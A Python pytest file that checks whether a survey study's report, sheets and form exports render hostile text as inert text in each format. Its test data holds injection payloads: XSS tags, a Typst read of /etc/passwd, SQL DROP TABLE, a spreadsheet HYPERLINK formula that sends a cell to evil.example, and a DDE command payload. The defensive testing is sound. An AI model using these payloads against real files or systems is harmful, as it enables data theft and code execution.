"""Every text that reaches a file of ours is the text that was written, in each format, and nothing of it is run.

One report, its sheets and its forms are made of a study whose every text would be code somewhere else; each writer is
then looked at in its own format, by a reader that shares no code with it.
"""

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import duckdb
import openpyxl
import pypandoc
import pytest
from bs4 import BeautifulSoup
from defusedxml import ElementTree
from pypdf import PdfReader

from study.codebook.load import load_study
from study.fielding.export import Target, form_bytes
from study.fielding.form import form_of
from study.intake.inputs import load_inputs
from study.provenance.codebook import codebook_md
from study.report.build import build_report
from study.sheets.build import build_sheets

from ..conftest import NOTEBOOKS

# No digit in it: a number that is typed in most of these texts is refused by itself.
CANARY = (
    '#import "/etc/passwd": * #read("/etc/passwd") #panic() <script>alert(x)</script> <img src=x onerror=alert(x)> '
    "[a](javascript:alert) {{x*x}} {% raw %} ${x} ]]> &ent; $x$ *b* _i_ `c` '; DROP TABLE x; -- \\n @ref \u202egauche\u202c fin"
)
# In a wave's texts braces hold a key of the ledger: an unknown one is refused.
PLAIN = CANARY.replace("{{x*x}}", "")
# What is left of it once signs that print nothing are gone.
SEEN = CANARY.replace("\u202e", "").replace("\u202c", "")
STARTS = {
    "Arbois": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "Belleville": "@SUM(1+1)",
    "Cassis": "+1+cmd|' /C calc'!A0",
}
NUMBER = re.compile(r"-?[0-9.]+")
FORMULA = re.compile(r"[=+@\t\r-]")
YAML_CANARY = json.dumps(CANARY, ensure_ascii=False)


def table(change):
    def changed(text: str) -> str:
        rows = list(csv.DictReader(io.StringIO(text)))
        for row in rows:
            change(row)
        out = io.StringIO()
        writer = csv.DictWriter(out, list(rows[0]), lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
        return out.getvalue()

    return changed


def territory(row):
    row["short_name"] = STARTS[row["short_name"]]
    row["name"] += f" {CANARY}"
    row["region_name"] = row["nature"] = CANARY


def fact(row):
    row["note"] = row["note_fr"] = CANARY


def source(row):
    row["title"] = row["publisher"] = CANARY
    row["url"] = "https://example.org/?q='%22)-alert(x)//"


def claim(row):
    row["statement"] = row["statement_fr"] = CANARY


def quoted(*words: str, canary: str = CANARY):
    """Put the canary in the place of some texts of a YAML file."""

    def changed(text: str) -> str:
        for word in words:
            assert word in text, word
            text = text.replace(word, json.dumps(canary, ensure_ascii=False))
        return text

    return changed


FILES = {
    "data/raw/frame.csv": table(territory),
    "data/raw/evidence/evidence.csv": table(fact),
    "data/raw/evidence/sources.csv": table(source),
    "data/raw/waves/2020/claims.csv": table(claim),
    "data/raw/questionnaire/lever-1.yaml": quoted("Achats responsables", "Schéma adopté", "Avez-vous adopté un schéma ?", "Charte d’achats", "Scheme adopted"),
    "data/raw/questionnaire/lever-0.yaml": quoted("Élu délégué", "Avez-vous un élu délégué ?"),
    "data/raw/questionnaire/study.yaml": quoted("en projet"),
    "data/raw/waves/2020/wave.yaml": quoted("Une petite étude", "Trois territoires inventés", "Réseau inventé", "Données inventées pour les essais.", "Écrire au réseau.", "Territoires ayant répondu", canary=PLAIN),
    "data/raw/waves/2020/commentary/fr/method.md": "Du texte. #import \"/etc/passwd\": \\* #read(\"/etc/passwd\") #panic() <script>alert(x)</script> \\[a](javascript:alert)\n\n```{=typst}\n#panic()\n```\n\n`<b>`{=html}\n",
    "data/raw/glossary.yaml": f"terms:\n  - term: {{fr: Clause, en: Clause}}\n    name: {{fr: {YAML_CANARY}, en: {YAML_CANARY}}}\n    meaning: {{fr: {YAML_CANARY}, en: {YAML_CANARY}}}\n    source: {{title: {{fr: {YAML_CANARY}, en: {YAML_CANARY}}}, url: \"https://example.org/\"}}\n",
}  # fmt: skip

_MADE: dict[str, bytes] = {}
_ROOT: list[Path] = []


@pytest.fixture
def made(make_study, played) -> dict[str, bytes]:
    """Every file that comes out, by name; made once, read only."""
    if not _MADE:
        paths = make_study(FILES)
        shutil.copytree(NOTEBOOKS, paths.notebooks, ignore=shutil.ignore_patterns(".*"))
        given = played(paths)
        build_sheets(paths, "2020", ["fr"])
        build_report(paths, "2020", "fr", *given)
        for folder in (paths.reports("2020"), paths.sheets("2020"), paths.processed("2020")):
            start = folder.parent.name  # reports/2020, processed/2020
            _MADE.update(
                {
                    f"{start}/{path.relative_to(folder).as_posix()}": path.read_bytes()
                    for path in folder.rglob("*")
                    if path.is_file()
                }
            )
        inputs = load_inputs(paths, "2020")
        form = form_of(
            inputs.study,
            wave="2020",
            titles=[inputs.wave.title],
            day=inputs.wave.reference_date,
            lang="fr",
            territories=list(zip(inputs.frame["territory"], inputs.frame["name"], strict=True)),
        )
        for target in Target:
            _MADE[f"form/{target}"] = form_bytes(form, target)
        _MADE["codebook.md"] = codebook_md(load_study(paths)).encode()
        _ROOT.append(paths.root)
    return _MADE


def of(made: dict[str, bytes], *suffixes: str) -> Iterator[tuple[str, bytes]]:
    found = [(name, content) for name, content in made.items() if name.endswith(suffixes)]
    assert found, suffixes
    yield from found


def squeezed(text: str) -> str:
    """Return a text without what lines, hyphens and signs that print nothing may have changed."""
    return re.sub(r"[\s\"«»“”\u00ad\u200b\u202f\u00a0\u202a-\u202e-]", "", text)


PIECES = [
    squeezed(piece)
    for piece in (
        '#import"/etc/passwd":*',
        '#read("/etc/passwd")',
        "#panic()",
        "<script>alert(x)</script>",
        "[a](javascript:alert)",
        "]]>&ent;",
        "*b*_i_`c`",
    )
]


@pytest.mark.parametrize("kind", ["report.pdf", "territories/arbois.pdf", "form/pdf"])
def test_pdf_shows_it_as_text_and_leads_to_the_web_alone(made, kind) -> None:
    _, content = next(of(made, kind))
    reader = PdfReader(io.BytesIO(content))
    text = squeezed("".join(page.extract_text() for page in reader.pages))
    assert [piece for piece in PIECES if piece not in text] == []
    assert "root:x:" not in text
    assert not re.search(rb"/(?:JavaScript|JS|Launch|EmbeddedFile|SubmitForm|ImportData)\b", content)
    for page in reader.pages:
        for annotation in page.get("/Annots", ()):
            action = annotation.get_object().get("/A", {})
            assert action.get("/S") in (None, "/URI", "/GoTo")
            assert str(action.get("/URI", "https://")).startswith(("https://", "http://", "mailto:"))


def no_code(html: str, scripts: int) -> BeautifulSoup:
    soup = BeautifulSoup(html, "html.parser")
    assert len([tag for tag in soup("script") if tag.get("type") not in ("application/json",)]) == scripts
    for tag in soup(True):
        assert not [name for name in tag.attrs if name.lower().startswith("on")], tag
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            assert not str(tag.get(name, "")).lower().strip().startswith(("javascript", "vbscript", "x")), tag
    return soup


def test_the_page_shows_it_as_text_and_runs_its_own_script_alone(made) -> None:
    html = (
        made["reports/report.html"].decode()
        if "reports/report.html" in made
        else next(of(made, "report.html"))[1].decode()
    )
    soup = no_code(html, 1)
    text = squeezed(soup.get_text())
    assert [piece for piece in PIECES if piece not in text] == []
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", html)
    assert "default-src 'none'" in str(soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"}))


def test_the_notebooks_show_it_as_text(made) -> None:
    shown = 0
    for _, content in of(made, ".ipynb"):
        for cell in json.loads(content)["cells"]:
            for output in cell.get("outputs", ()):
                html = "".join(output.get("data", {}).get("text/html", ""))
                shown += "alert(x)" in no_code(html, 0).get_text()
    assert shown > 3


def test_no_cell_of_a_table_is_a_formula(made) -> None:
    cells = [
        (name, cell)
        for name, content in of(made, ".csv")
        for row in csv.reader(io.StringIO(content.decode("utf-8")))
        for cell in row
    ]
    bad = {name for name, cell in cells if FORMULA.match(cell) and not NUMBER.fullmatch(cell)}
    assert bad == set(), sorted(bad)
    assert sum("#panic()" in cell for _, cell in cells) > 20


@pytest.mark.parametrize("kind", ["workbook.xlsx", "form/xlsform"])
def test_no_cell_of_a_workbook_is_a_formula_and_links_lead_to_the_web(made, kind) -> None:
    _, content = next(of(made, kind))
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                if cell.hyperlink and cell.hyperlink.target:
                    assert cell.hyperlink.target.startswith(("https://", "http://", "mailto:"))
    assert any("<script>alert(x)</script>" in text for text in texts)
    # Copied from there into another sheet, a text would be typed anew: it is marked as in our CSV files.
    assert not set(STARTS.values()) & set(texts)


def test_xml_is_whole_and_holds_it_as_text(made) -> None:
    texts = []
    for name, content in of(made, ".xml", ".svg"):
        tree = ElementTree.fromstring(content, forbid_dtd=True)
        assert not [item for item in tree.iter() if item.tag.split("}")[-1] in ("script", "foreignObject", "iframe")], (
            name
        )
        for item in tree.iter():
            assert not [key for key in item.attrib if key.split("}")[-1].lower().startswith("on")], name
            assert not [value for value in item.attrib.values() if value.lower().startswith("javascript")], name
        texts.append("".join(tree.itertext()))
    assert any("<script>alert(x)</script>" in text for text in texts)


def test_json_is_whole_and_holds_it_as_text(made) -> None:
    for name, content in of(made, ".json"):
        json.loads(content)
        if name.endswith(("datapackage.json", "ro-crate-metadata.json")):
            assert "<script>alert(x)</script>" in json.dumps(json.loads(content), ensure_ascii=False), name


@pytest.mark.parametrize("kind", ["codebook.md", "form/markdown"])
def test_markdown_is_text_for_whoever_renders_it(made, kind) -> None:
    html = pypandoc.convert_text(made[kind].decode(), "html5", format="gfm")
    soup = no_code(html, 0)
    assert "<script>alert(x)</script>" in soup.get_text() and not soup.find("img")
    assert not [tag for tag in soup("a") if "alert" in str(tag.get("href"))]


def test_limesurvey_gets_it_as_text_without_expressions(made) -> None:
    rows = list(csv.reader(io.StringIO(made["form/limesurvey"].decode("utf-8-sig")), delimiter="\t"))
    texts = [row[rows[0].index("text")] for row in rows[1:]] + [row[rows[0].index("name")] for row in rows[1:]]
    assert any("&lt;script&gt;alert(x)" in text for text in texts)
    for text in texts:
        assert "<script" not in text and "<img" not in text
        # LimeSurvey computes what stands in braces, unless a blank follows.
        assert not re.search(r"(?<!\\)\{(?!\s)", text), text


def test_the_audits_sql_is_run_as_it_was_meant(made) -> None:
    script = next(of(made, "audit.sql"))[1].decode()
    connection = duckdb.connect()
    connection.execute(f"SET file_search_path = '{_ROOT[0].as_posix()}'")
    indicators = list(csv.DictReader(io.StringIO(next(of(made, "reports/indicators.csv"))[1].decode())))
    rows = connection.execute(script).fetchall()
    assert rows and len(indicators) > 10
